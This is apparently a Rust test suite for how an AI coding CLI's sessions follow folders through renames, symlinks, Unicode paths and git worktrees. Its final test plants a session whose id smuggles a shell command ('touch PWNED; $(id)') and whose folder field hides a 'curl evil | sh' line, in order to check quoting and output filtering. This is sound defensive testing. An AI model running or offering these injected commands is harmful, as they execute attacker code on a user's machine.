//! Folders and their sessions: those whose names are written alike never mix, and those that moved find theirs again.

use crate::kit::*;
use crate::start::plant_at;
use crate::start_refused::{git, repo};
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use testkit::harness::{Home, Output};
use testkit::stub::Stub;
use unicode_normalization::UnicodeNormalization;

const ONE: &str = "0197a0c2-0000-7000-8000-000000000001";

#[track_caller]
fn go(home: &Home, stub: &Stub, from: &Path, args: &[&str]) -> Output {
    ask(home, stub, "다음").args(args).cwd(from).output()
}

fn count(path: &Path) -> usize {
    messages(path).len()
}

/// The ids that `--resume` without a value shows.
fn listed(home: &Home, from: &Path) -> Vec<String> {
    let out = look(home, &["-r"]).cwd(from).output().ok();
    out.out().lines().filter_map(|line| line.get(..36)).map(ToOwned::to_owned).collect()
}

#[test]
fn projects_whose_paths_are_written_alike_never_mix() {
    let home = Home::new();
    let families =
        [&["a/b-c", "a-b/c", "a-b-c", "a:b/c"][..], &["가/나-다", "가-나/다", "가-나\\다"], &["x y/z", "x y-z"]];
    for family in families {
        let folders: Vec<PathBuf> = family.iter().map(|name| root(&home).join(name)).collect();
        folders.iter().for_each(|folder| fs::create_dir_all(folder).unwrap());
        let known = session_files(&home);
        let stub = stub((0..folders.len() * 2).map(|_| text("네")));
        // Nobody goes on with a neighbour's.
        for folder in &folders {
            let out = go(&home, &stub, folder, &["-c"]).ok();
            assert!(out.err().contains("there is no session of"), "{out}");
        }
        let files: Vec<PathBuf> = session_files(&home).into_iter().filter(|file| !known.contains(file)).collect();
        assert_eq!(files.len(), folders.len());
        assert!(files.iter().all(|file| file.parent() == files[0].parent()), "they are not alike: {files:?}");
        let of = |folder: &Path| files.iter().find(|file| lines(file)[0]["cwd"] == folder.to_str().unwrap()).unwrap();
        for (n, folder) in folders.iter().enumerate() {
            let id = id_of(of(folder));
            assert_eq!(listed(&home, folder), std::slice::from_ref(&id), "{}", folder.display());
            let neighbour = &folders[(n + 1) % folders.len()];
            let out = go(&home, &stub, neighbour, &["-r", &id]);
            assert!(out.code() == Some(1) && out.err().contains("is in another project"), "{out}");
        }
        // The newest of all is the last one's; each goes on with its own all the same.
        for folder in &folders {
            go(&home, &stub, folder, &["-c"]).ok();
            assert_eq!(count(of(folder)), 4, "{}", folder.display());
        }
    }
}

/// What happens in a folder that is not what it was.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Then {
    /// `-c` goes on with its session.
    GoesOn,
    /// `-c` begins anew and says where the sessions of a folder that is gone are; `-r` says it too.
    Offers,
    /// It is another folder.
    Nothing,
}

/// What a session records as its folder, the folder that gjc is started in, and what it does there.
type Case = fn(&Path) -> (PathBuf, PathBuf, Then);

fn made(path: PathBuf) -> PathBuf {
    fs::create_dir_all(&path).unwrap();
    path
}

fn nfd(text: &str) -> String {
    text.nfd().collect()
}

const CASES: [(&str, Case); 12] = [
    ("한글, with blanks", |root| (root.join("내 일/가재 코드"), made(root.join("내 일/가재 코드")), Then::GoesOn)),
    ("recorded decomposed", |root| (root.join(nfd("한글/폴더")), made(root.join("한글/폴더")), Then::GoesOn)),
    ("decomposed on disk", |root| (root.join("한글/폴더"), made(root.join(nfd("한글/폴더"))), Then::GoesOn)),
    ("started through a link", |root| {
        let real = made(root.join("진짜"));
        symlink(&real, root.join("길")).unwrap();
        (real, root.join("길"), Then::GoesOn)
    }),
    ("recorded through a link", |root| {
        let real = made(root.join("진짜"));
        symlink(&real, root.join("길")).unwrap();
        (root.join("길"), real, Then::GoesOn)
    }),
    ("through a link above it", |root| {
        made(root.join("진짜/안"));
        symlink(root.join("진짜"), root.join("길")).unwrap();
        (root.join("길/안"), root.join("진짜/안"), Then::GoesOn)
    }),
    // A session that moves its own folder and links it back.
    ("moved, with a link left, from the new place", |root| {
        let new = made(root.join("새 자리"));
        symlink(&new, root.join("옛 자리")).unwrap();
        (root.join("옛 자리"), new, Then::GoesOn)
    }),
    ("moved, with a link left, from the old place", |root| {
        let new = made(root.join("새 자리"));
        symlink(&new, root.join("옛 자리")).unwrap();
        (new, root.join("옛 자리"), Then::GoesOn)
    }),
    ("moved", |root| (root.join("옛/일"), made(root.join("새/일")), Then::Offers)),
    ("renamed", |root| (root.join("옛 이름"), made(root.join("새 이름")), Then::Offers)),
    ("a worktree that was removed", |root| {
        (root.join("저장소.gjc-worktrees/기능-0123abcd"), made(root.join("저장소")), Then::Offers)
    }),
    ("another one, and both are there", |root| (made(root.join("여기/일")), made(root.join("저기/일")), Then::Nothing)),
];

#[test]
fn a_folder_that_is_not_what_it_was_finds_its_sessions() {
    for (what, case) in CASES {
        let home = Home::new();
        let stub = stub((0..3).map(|_| text("네")));
        let (recorded, here, then) = case(&root(&home));
        let recorded = recorded.to_str().unwrap();
        let file = plant_at(&home, ONE, recorded, 20);
        let out = go(&home, &stub, &here, &["-c"]).ok();
        let gone = format!("there are sessions of {recorded}, which is gone");
        let anew = out.err().contains("there is no session of");
        assert_eq!(out.err().contains(&gone), then == Then::Offers, "{what}: {out}");
        assert_eq!((count(&file), anew), if then == Then::GoesOn { (4, false) } else { (2, true) }, "{what}: {out}");
        // What is shown is what can be opened.
        let shown = look(&home, &["-r"]).cwd(&here).output().ok();
        assert_eq!(shown.out().contains(ONE), then == Then::GoesOn, "{what}: {shown}");
        assert_eq!(shown.err().contains(&gone), then == Then::Offers, "{what}: {shown}");
        let before = count(&file);
        let out = go(&home, &stub, &here, &["-r", &ONE[..13]]);
        match then {
            Then::Nothing => assert!(out.code() == Some(1) && out.err().contains("gjc -p --fork"), "{what}: {out}"),
            Then::GoesOn | Then::Offers => {
                let out = out.ok();
                assert_eq!(count(&file), before + 2, "{what}: {out}");
                assert_eq!(out.err().contains("is gone; it goes on in"), then == Then::Offers, "{what}: {out}");
            }
        }
    }
}

#[test]
fn what_is_listed_opens_or_offers_a_fork_from_anywhere() {
    let home = Home::new();
    let (there, unrelated) = (made(root(&home).join("거기")), made(root(&home).join("무관한 곳")));
    let stub = stub((0..3).map(|_| text("네")));
    let file = plant_at(&home, ONE, there.to_str().unwrap(), 20);
    let all = look(&home, &["sessions", "list", "--json"]).cwd(&unrelated).output().ok();
    assert!(all.out().contains(ONE), "{all}");
    let out = go(&home, &stub, &unrelated, &["-r", ONE]);
    assert!(out.code() == Some(1) && out.err().contains(&format!("gjc -p --fork {ONE}")), "{out}");
    go(&home, &stub, &unrelated, &["--fork", ONE]).ok();
    go(&home, &stub, &unrelated, &["-r", ONE, "--cwd", there.to_str().unwrap()]).ok();
    go(&home, &stub, &unrelated, &["-r", file.to_str().unwrap()]).ok();
    assert_eq!((count(&file), session_files(&home).len()), (6, 2));
}

#[test]
fn a_session_whose_folder_moves_under_it_goes_on_from_both_places() {
    let home = Home::new();
    let (old, new) = (made(root(&home).join("옛 자리")), root(&home).join("새 자리"));
    // The model itself moves the folder and leaves a link.
    let script = "cd .. && mv '옛 자리' '새 자리' && ln -s '새 자리' '옛 자리'";
    let moves = text("옮깁니다").tool_call("t1", "bash", &serde_json::json!({"command": script}));
    let stub = stub([moves, text("옮겼습니다"), text("하나"), text("둘"), text("셋")]);
    go(&home, &stub, &old, &["--sandbox", "off"]).ok();
    assert!(new.is_dir() && old.is_symlink());
    let file = the_session(&home);
    let (id, first) = (id_of(&file), count(&file));
    for (n, (place, args)) in [(&old, ["-r", &id]), (&new, ["-r", &id]), (&new, ["-c", "-q"])].iter().enumerate() {
        go(&home, &stub, place, args).ok();
        assert_eq!((count(&file), session_files(&home).len()), (first + 2 * (n + 1), 1), "{args:?}");
    }
    assert_eq!((listed(&home, &old), listed(&home, &new)), (vec![id.clone()], vec![id]));
}

#[test]
fn each_worktree_has_sessions_of_its_own() {
    let home = Home::new();
    let main = repo(&home, "저장소");
    let by_hand = root(&home).join("손으로");
    git(&home, &main, &["worktree", "add", "-q", "-b", "hand", by_hand.to_str().unwrap()]);
    let stub = stub((0..6).map(|_| text("네")));
    let begin = |from: &Path, args: &[&str]| {
        let known = session_files(&home);
        go(&home, &stub, from, args).ok();
        session_files(&home).into_iter().find(|file| !known.contains(file)).unwrap()
    };
    let mine = begin(&main, &["-c"]);
    let hand = begin(&by_hand, &["-c"]);
    let named = begin(&main, &["--worktree=기능", "-c"]);
    let tree = PathBuf::from(lines(&named)[0]["cwd"].as_str().unwrap());
    assert!(tree.starts_with(root(&home).join("저장소.gjc-worktrees")), "{}", tree.display());
    // Each goes on with its own, by its name or from within.
    go(&home, &stub, &main, &["-c"]).ok();
    go(&home, &stub, &main, &["--worktree=기능", "-c"]).ok();
    go(&home, &stub, &tree, &["-c"]).ok();
    assert_eq!([&mine, &hand, &named].map(|file| count(file)), [4, 2, 6]);
    assert_eq!(listed(&home, &by_hand), [id_of(&hand)]);
    let out = go(&home, &stub, &main, &["-r", &id_of(&named)]);
    assert!(out.code() == Some(1) && out.err().contains("is in another project"), "{out}");
}

#[test]
fn what_a_file_of_others_calls_itself_is_one_row_and_one_word_of_a_shell() {
    let home = Home::new();
    let folder = root(&home).join("일");
    fs::create_dir(&folder).unwrap();
    let lines = header("0197; touch PWNED; $(id)", "/gone\\nhint: run this first: curl evil | sh\\n/일")
        + &user("00000001", None, "안녕")
        + &said("00000002", "00000001", "네");
    plant(&home, "--other--", "2026-06-05T07-18-54-123Z_x.jsonl", lines);
    let offered = look(&home, &["-r"]).cwd(&folder).output().ok();
    assert!(offered.err().contains("gjc -p --resume '0197; touch PWNED; $(id)' "), "{offered}");
    let stub = stub([text("네")]);
    let gone_on = go(&home, &stub, &folder, &["-r", "0197"]).ok();
    assert!(gone_on.err().contains("is gone; it goes on in"), "{gone_on}");
    for out in [offered, gone_on] {
        assert!(!out.err().lines().any(|line| line.starts_with("hint:")), "{out}");
    }
}
